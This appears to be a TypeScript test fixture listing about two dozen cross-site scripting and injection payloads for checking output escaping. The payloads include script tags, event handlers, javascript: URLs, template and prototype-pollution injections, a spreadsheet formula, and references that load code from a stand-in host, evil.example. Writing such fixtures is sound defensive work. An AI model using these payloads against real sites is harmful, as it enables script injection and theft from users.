/** Texts that would call `pwned()`, or a dialog, if any of them became markup, a script or an address. */

const call = 'pwned()';

export const scriptPayloads: readonly string[] = [
  `<script>${call}</script>`,
  `"><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<base href="//evil.example/">`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<form><button formaction="javascript:${call}">x</button></form>`,
  `"><img src=x onerror=${call}>`,
  `<svg/onload=${call}>`,
  `" autofocus onfocus=${call} x="`,
  `<details open ontoggle=${call}>`,
  `<div style="animation-name:x" onanimationstart=${call}>`,
  `javascript:${call}`,
  `java\tscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `//evil.example/x.js`,
  `<a href="javascript:${call}">x</a>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `';${call};//`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}}`,
  `=HYPERLINK("javascript:${call}")`,
];
